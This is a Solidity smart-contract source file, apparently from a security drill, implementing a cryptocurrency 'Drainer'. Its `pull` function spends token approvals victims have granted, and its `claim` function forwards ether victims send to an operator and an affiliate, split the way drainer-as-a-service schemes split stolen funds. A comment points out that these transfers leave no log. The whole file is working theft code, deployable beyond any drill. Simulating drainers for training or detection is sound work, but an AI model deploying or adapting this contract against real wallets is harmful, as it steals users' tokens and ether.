// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

import {TokenMover} from "./TokenMover.sol";

/// The attacker's side of a drill: spends approvals and collects ether, and splits both as drainer services do.
/// Anyone may call it: a drill plays every role itself.
contract Drainer {
    address public immutable operator;
    address public immutable affiliate;
    /// The operator's share in basis points; 0 switches the split off.
    uint16 public immutable operatorBps;

    constructor(address operator_, address affiliate_, uint16 operatorBps_) {
        require(operatorBps_ <= 10_000, "Drainer: share above 100 %");
        operator = operator_;
        affiliate = affiliate_;
        operatorBps = operatorBps_;
    }

    /// Takes `amount` of an approved ERC-20, or the ERC-721 token of that id where there is no split. The operator's share goes
    /// first, the rest to `to`; the owner of the tokens sends no transaction.
    function pull(address token, address from, address to, uint256 amount) external {
        uint256 share = (amount * operatorBps) / 10_000;
        if (share > 0) TokenMover.pull(token, from, operator, share);
        if (operatorBps < 10_000) TokenMover.pull(token, from, to, amount - share);
    }

    /// The victim sends ether with this call; it leaves at once in internal transfers, which no log shows.
    function claim() external payable {
        uint256 share = (msg.value * operatorBps) / 10_000;
        if (share > 0) TokenMover.sendEther(operator, share);
        if (operatorBps < 10_000) TokenMover.sendEther(affiliate, msg.value - share);
    }
}
